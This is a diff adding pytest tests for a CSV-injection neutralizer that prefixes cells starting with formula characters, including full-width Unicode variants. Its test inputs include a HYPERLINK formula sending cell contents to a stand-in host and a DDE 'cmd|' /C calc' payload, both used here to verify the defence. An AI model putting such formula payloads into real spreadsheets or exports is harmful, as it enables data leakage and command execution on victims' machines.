@@ -102,6 +102,35 @@ def test_neutralize(cell: object, expected: str) -> None:
     assert neutralize(cell) == expected
 
 
+# OWASP's CSV-injection list plus the full-width forms a spreadsheet reads as their ASCII twins
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=[f"U+{ord(c):04X}" for c in FORMULA_STARTS])
+def test_every_formula_start_is_prefixed(start: str) -> None:
+    payload = start + "HYPERLINK(\"http://x.invalid/\"&A1)"
+    assert neutralize(payload) == "'" + payload
+    assert neutralize(start) == "'" + start  # the character alone
+    assert neutralize("a" + payload) == "a" + payload  # only a leading one starts a formula
+
+
+@pytest.mark.parametrize("start", ["\t", "\r", "\uff0b", "\uff0d"])
+def test_numbers_behind_a_formula_start_other_than_an_ascii_sign_are_prefixed(start: str) -> None:
+    assert neutralize(start + "1.5") == "'" + start + "1.5"
+
+
+@pytest.mark.parametrize("cell", ["-\uff11\uff12", "-1.5\n", "+1 "])
+def test_only_plain_ascii_numbers_escape_the_prefix(cell: str) -> None:
+    assert neutralize(cell) == "'" + cell
+
+
+def test_full_width_and_control_starts_are_prefixed_in_the_written_file(tmp_path: Path) -> None:
+    rows = [["\uff1dcmd|' /C calc'!A0", "\tcompute", "\r=1+1", "\uff20SUM(A1)", "-1.5", "\uff0dx"]]
+    unsorted_path, _ = write_seed_csvs(rows, tmp_path, "01012026-000000")
+    [_, cells] = list(csv.reader(io.StringIO(unsorted_path.read_bytes().decode(), newline="")))
+    assert cells == ["'\uff1dcmd|' /C calc'!A0", "'\tcompute", "'\r=1+1", "'\uff20SUM(A1)", "-1.5", "'\uff0dx"]
+
+
 def test_write_csv_neutralizes_every_text_cell() -> None:
     buf = io.StringIO(newline="")
     assert write_csv(buf, ["a", "amount"], [["=x", Decimal("-3.00")], ["ok", None]]) == 2
